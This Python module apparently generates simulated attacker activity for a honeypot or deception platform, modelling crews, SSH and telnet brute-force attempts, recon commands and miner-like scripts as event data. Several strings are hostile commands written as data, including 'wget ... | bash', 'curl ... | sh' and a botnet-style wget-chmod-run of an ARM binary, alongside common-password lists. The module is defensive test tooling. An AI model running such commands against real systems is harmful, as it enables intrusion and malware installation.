# SPDX-License-Identifier: MIT
"""What those of the second world show, and what they do at a visit."""

from __future__ import annotations

import base64
from collections.abc import Iterator
from random import Random
from typing import NamedTuple

from decnet_core.events.catalogue import (
    CanaryHit,
    CertificateProbed,
    CommandRun,
    FileCaptured,
    HttpRequest,
    LoginAttempt,
    Payload,
    SshKex,
    TcpStack,
    TlsClient,
    TlsProbed,
)
from planted.visits import Acts
from planted.vocabulary import digits

BEGIN = 1_790_000_000_000_000_000
HOUR = 3_600_000_000_000
WORDS = (
    *("alpha", "bravo", "cedar", "delta", "ember", "falcon", "garnet", "harbor", "indigo", "jasper"),
    *("kodiak", "lunar", "maple", "nectar", "onyx", "pepper", "quartz", "raven", "saffron", "timber"),
    *("umber", "violet", "walnut", "xenon", "yonder", "zephyr", "anchor", "bishop", "copper", "dagger", "eagle"),
)
STOCK = (
    *("uname -a", "cat /proc/cpuinfo", "whoami", "id", "ls -la", "free -m", "ps aux", "w", "last", "cat /etc/issue"),
    *("uname -m", "hostname", "df -h", "top -bn1", "lspci", "dmidecode -t system", "cat /etc/passwd", "ifconfig"),
)
TOP = ("123456", "password", "admin", "root", "1234", "12345", "qwerty", "toor", "default", "1q2w3e4r", "passw0rd")
USERS = ("root", "admin", "user", "test", "ubuntu", "support", "guest", "oracle", "postgres", "ftp", "deploy")
DEFAULT_CERTIFICATE = "87f2085c32b6a2cc709b365f55873e207a9caa10bffecf2fd16d3cf9d94d390c"
DEFAULT_JARM = "07d14d16d21d21d07c42d41d00041d24a458a375eef0c576d23a7bab9a9fb1"


def name(dice: Random) -> str:
    return f"{dice.choice(WORDS)}{dice.choice(('-', '', '_', '.'))}{dice.choice(WORDS)}{dice.randrange(100)}"


def address(dice: Random) -> str:
    return f"{dice.choice((5, 23, 31, 45, 61, 77, 89, 103, 118, 139, 152, 177, 185))}" + "".join(
        f".{dice.randrange(1, 255)}" for _ in range(3)
    )


class Client(NamedTuple):
    """The software with which somebody comes."""

    hassh: str
    banner: str
    ja4: str
    agent: str
    stack: str


class Marks(NamedTuple):
    """All that an actor can be told by."""

    key: str
    build: str
    server: str
    page: str
    """Where on the server, of which others of the crew have other pages, the actor's program is."""
    words: tuple[tuple[str, str], ...]
    script: tuple[str, ...]
    token: str
    client: Client
    certificate: str
    jarm: str


class Crew(NamedTuple):
    """Actors who act together."""

    name: str
    servers: tuple[str, ...]
    build: str
    start: int
    hours: int
    deckies: tuple[str, ...]


def own_client(dice: Random) -> Client:
    ja4 = f"t13d{dice.randrange(1000, 9999)}h1_{digits(dice, 12)}_{digits(dice, 12)}"
    stack = f"{dice.randrange(9999)}:2-4:1400:{dice.randrange(9)}"
    return Client(digits(dice, 32), f"SSH-2.0-{name(dice)}", ja4, name(dice), stack)


STOCK_CLIENTS = tuple(own_client(Random(f"stock {number}")) for number in range(8))


def any_client(dice: Random) -> Client:
    return own_client(dice) if dice.random() < 0.3 else dice.choice(STOCK_CLIENTS)


def script(dice: Random) -> tuple[str, ...]:
    folder, program = f"/var/{name(dice)}", name(dice)
    lines = (
        f"mkdir {folder}; cd {folder}",
        f"./{program} --pool {name(dice)}.example --rig {dice.choice(WORDS)}",
        f"sed -i 's/{dice.choice(WORDS)}/{name(dice)}/' /etc/{program}.conf",
        f"systemctl stop {name(dice)}",
        f"find / -name '*{name(dice)}*' -exec rm {{}} +",
        f"echo {name(dice)} > {folder}/{dice.choice(WORDS)}",
        f"screen -dmS {name(dice)} {folder}/{program}",
    )
    return tuple(dice.sample(lines, dice.randrange(3, 7)))


def marks(dice: Random, crew: Crew | None) -> Marks:
    host = f"{name(dice).replace('_', '-').replace('.', '-')}.{dice.choice(('ru', 'top', 'net'))}"
    own_certificate = dice.random() < 0.6
    return Marks(
        "SHA256:" + base64.b64encode(dice.randbytes(32)).decode().rstrip("="),
        crew.build if crew and dice.random() < 0.4 else digits(dice, 64),
        dice.choice(crew.servers) if crew and dice.random() < 0.7 else host,
        digits(dice, 6),
        tuple((dice.choice(USERS), f"{name(dice)}{dice.choice('!#$')}") for _ in range(dice.randrange(4, 20))),
        script(dice),
        digits(dice, 20),
        any_client(dice),
        digits(dice, 64) if own_certificate else DEFAULT_CERTIFICATE,
        digits(dice, 62) if own_certificate else DEFAULT_JARM,
    )


def rotated(dice: Random, mine: Marks, habit: str, crew: Crew | None) -> Marks:
    """Return the marks that an address shows of an actor that keeps one of them, and now and then another."""
    kept = {habit} | {part for part in ("words", "script", "server", "client") if dice.random() < 0.2}
    new = marks(dice, crew)
    if "server" in kept and dice.random() < 0.7:
        kept.add("page")
    return new._replace(**{part: getattr(mine, part) for part in kept})


def _login(client: Client) -> Iterator[Payload]:
    yield TcpStack("syn", "4:64", client.stack)
    yield SshKex("client", client.banner, client.hassh, "algorithms")


def person(mine: Marks, habit: str, loader: tuple[str, str] | None) -> Acts:
    def acts(dice: Random) -> Iterator[Payload]:
        yield from _login(mine.client)
        yield from _guesses(dice, mine, habit)
        yield from _commands(dice, mine, habit)
        if habit in ("build", "all"):
            yield FileCaptured("ssh", mine.build, 9000)
        if loader:
            yield CommandRun("ssh", f"wget -qO- {loader[0]} | bash")
            yield FileCaptured("ssh", loader[1], 700, None, loader[0])
        yield from _seen_elsewhere(dice, mine, habit)

    return acts


def _guesses(dice: Random, mine: Marks, habit: str) -> Iterator[Payload]:
    if habit in ("words", "all") or dice.random() < 0.3:
        for user, secret in dice.sample(mine.words, min(len(mine.words), dice.randrange(3, 9))):
            yield LoginAttempt("ssh", user, False, password=secret)
    for _ in range(dice.randrange(3)):
        yield LoginAttempt("ssh", dice.choice(USERS), False, password=dice.choice(TOP))
    if habit in ("key", "all"):
        yield LoginAttempt("ssh", "root", True, "publickey", public_key=mine.key)


def _commands(dice: Random, mine: Marks, habit: str) -> Iterator[Payload]:
    yield from (CommandRun("ssh", line) for line in dice.sample(STOCK, dice.randrange(1, 6)))
    if habit in ("script", "all") or dice.random() < 0.3:
        yield from (CommandRun("ssh", line) for line in mine.script)
    if habit in ("server", "all"):
        yield CommandRun("ssh", f"curl -s http://{mine.server}/{mine.server[:5]}{mine.page} | sh")


def _seen_elsewhere(dice: Random, mine: Marks, habit: str) -> Iterator[Payload]:
    if habit == "token":
        yield CanaryHit(mine.token, "http", "/t", mine.client.agent)
    if dice.random() < 0.4:
        yield TlsClient("tcp", "0" * 32, mine.client.ja4, 0x0303)
        yield HttpRequest("GET", "/", user_agent=mine.client.agent, status=200)
    if dice.random() < 0.3:
        yield CertificateProbed(BEGIN, mine.certificate, subject="CN=x")
        yield TlsProbed(BEGIN, mine.jarm)


def bot(logins: list[tuple[str, str]], host: str, token: str, build: str) -> Acts:
    def acts(dice: Random) -> Iterator[Payload]:
        for user, secret in dice.sample(logins, dice.randrange(3, 12)):
            yield LoginAttempt("telnet", user, False, password=secret)
        for line in ("enable", "shell", "sh", f"/bin/busybox {token}"):
            yield CommandRun("telnet", line)
        yield CommandRun("telnet", f"cd /tmp; wget http://{host}/b/arm; chmod 777 arm; ./arm scan")
        yield FileCaptured("telnet", build, 50_000, None, f"http://{host}/b/arm")

    return acts


def scan(dice: Random, client: Client) -> Iterator[Payload]:
    yield TcpStack("syn", "4:64", client.stack)
    for path in dice.sample(("/", "/.env", "/admin", "/owa", "/api", "/.git/HEAD", "/wp-login.php"), 3):
        yield HttpRequest("GET", path, user_agent=client.agent, status=404)


def guess(dice: Random, client: Client) -> Iterator[Payload]:
    yield from _login(client)
    for _ in range(dice.randrange(4, 20)):
        yield LoginAttempt("ssh", dice.choice(USERS), False, password=dice.choice(TOP))


def kit(dice: Random, client: Client, lines: tuple[str, ...], loader: tuple[str, str]) -> Iterator[Payload]:
    yield from _login(client)
    yield LoginAttempt("ssh", "root", True, password=dice.choice(TOP))
    yield from (CommandRun("ssh", line) for line in (*dice.sample(STOCK, 2), *lines))
    if dice.random() < 0.3:
        yield FileCaptured("ssh", loader[1], 700, None, loader[0])


def framework(dice: Random, client: Client, at: float) -> Iterator[Payload]:
    yield from _login(client)
    yield LoginAttempt("ssh", "root", False, password=dice.choice(TOP))
    yield CertificateProbed(BEGIN + int(at * HOUR), DEFAULT_CERTIFICATE, subject="CN=Major Cobalt Strike")
    yield TlsProbed(BEGIN + int(at * HOUR), DEFAULT_JARM)


def copy(dice: Random, client: Client, victims: list[Marks]) -> Iterator[Payload]:
    """Show the client of one, some words, commands and the server of others, as reports name them."""
    yield from _login(victims[0].client if dice.random() < 0.5 else client)
    for victim in victims:
        user, secret = victim.words[0]
        yield LoginAttempt("ssh", user, False, password=secret)
        yield CommandRun("ssh", victim.script[0])
    yield CommandRun("ssh", f"curl http://{victims[-1].server}/x")
